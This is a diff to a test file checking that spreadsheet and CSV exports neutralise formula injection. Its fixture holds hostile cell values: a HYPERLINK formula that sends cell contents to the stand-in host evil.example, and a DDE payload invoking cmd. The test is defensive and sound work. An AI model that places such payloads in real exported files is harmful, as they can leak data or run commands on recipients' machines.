@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { csvFile, readSheet, xlsxFile } from './index.ts';
 
 const HOSTILE = [
-  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1'],
+  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1'],
   ['Pump state', -5, '-12.5', 3.5, true, null],
 ];
 const limits = { maxRows: 10, maxColumns: 10, maxSheetBytes: 1024 * 1024 };
@@ -14,7 +14,8 @@ describe('spreadsheet exports', () => {
   it('writes CSV with every formula-like text quoted, numbers kept', async () => {
     const text = csvFile(HOSTILE).toString('utf8');
     expect(text).toBe(
-      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+1+cmd|' /C calc'!A0,'-2+3,'@SUM(A1:A2),'\t=1,"'\r=1"\r\n` + 'Pump state,-5,-12.5,3.5,true,\r\n',
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+1+cmd|' /C calc'!A0,'-2+3,'@SUM(A1:A2),'\t=1,"'\r=1"\r\n` +
+        'Pump state,-5,-12.5,3.5,true,\r\n',
     );
   });
 
